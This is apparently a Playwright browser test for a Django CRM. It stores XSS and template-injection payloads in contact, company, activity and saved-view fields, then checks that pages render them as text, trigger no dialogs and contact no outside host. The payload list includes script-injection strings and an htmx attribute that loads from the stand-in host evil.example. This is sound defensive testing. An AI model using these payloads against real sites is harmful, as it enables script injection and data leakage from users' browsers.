"""Stored text is displayed as text: no script runs, no other host is contacted."""

import pytest
from playwright.sync_api import expect

from contacts.models import Company, Contact
from contacts.verbs.create import create
from contacts.verbs.create_company import create_company
from contacts.verbs.log import log
from crm.entities.fields import FieldType
from crm.entities.schema import schema
from crm.lists.verbs.save_view import save_view

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    '<div hx-get="//evil.example/x" hx-trigger="load">x</div>',
    "'\"--></title></textarea></option><svg onload=alert(1)>",
    "{{7*7}}{% now 'Y' %}${7*7}",
    "javascript:alert(1)",
]
PLAIN = (FieldType.TEXT, FieldType.LONG_TEXT, FieldType.PHONE)
CHECKED = {
    "domain": "",
    "other_domains": "",
    "other_emails": "",
    "other_phones": "",
    "email_label": "",
    "phone_label": "",
    "timezone": "Europe/Madrid",
    "country": "ES",
    "external_id": "",
}


def hostile(entity: str, payload: str) -> dict[str, str]:
    """Return the payload for every free-text field, truncated to fit."""
    texts = [field for field in schema(entity) if field.type in PLAIN and field.editable and not field.custom]
    model = {"contact": Contact, "company": Company}[entity]
    room = {field.key: model._meta.get_field(field.key).max_length or 1000 for field in texts}
    return {key: CHECKED.get(key, payload[:length]) for key, length in room.items()}


@pytest.fixture
def stored(acme, actor):
    """Create a contact, a company, an activity and a saved view per payload."""
    people = []
    for payload in PAYLOADS:
        by = actor("rep")
        company = create_company([hostile("company", payload)], by=by).done[0]
        person = create([hostile("contact", payload) | {"company": company}], by=by).done[0]
        note = {"subject": payload, "body": payload, "contact_id": person}
        log([{"kind": "email", "sender": payload, "recipients": payload} | note], by=by)
        log([{"kind": "task", "subject": payload, "contact_id": person}], by=by)
        save_view("contact", payload[:60], by=by, condition=f'notes contains "{payload[:9].replace(chr(34), "")}"')
        people.append(Contact.objects.get(pk=person))
    return people


def test_nothing_runs_and_nothing_leaves(visit, stored, sign_in):
    page = visit("/", client=sign_in("rep"))
    dialogs, foreign = [], []
    host = page.url.rstrip("/")
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: foreign.append(request.url) if not request.url.startswith(host) else None)
    paths = ["/", "/contact?view=all", "/company", "/search?q=alert", "/contact/columns", "/contact/filter?view=all"]
    for person in stored:
        record = person.get_absolute_url()
        paths += [record, f"{record}/edit", f"{record}/merge?other={stored[0].public_id}", f"{record}/field/notes"]
        paths.append(person.company.get_absolute_url())
    for path in paths:
        page.goto(path, wait_until="load")
    page.goto("/contact?view=all")
    expect(page.locator("tbody")).to_contain_text("<img src=x onerror=alert(1)>")
    page.keyboard.press("Control+k")
    page.keyboard.type("alert")
    expect(page.locator(".search-results li").first).to_be_visible()
    page.goto("/contact/new")
    page.get_by_label("Company").press_sequentially("alert")
    expect(page.locator("datalist option").first).to_be_attached()
    assert (dialogs, foreign) == ([], [])
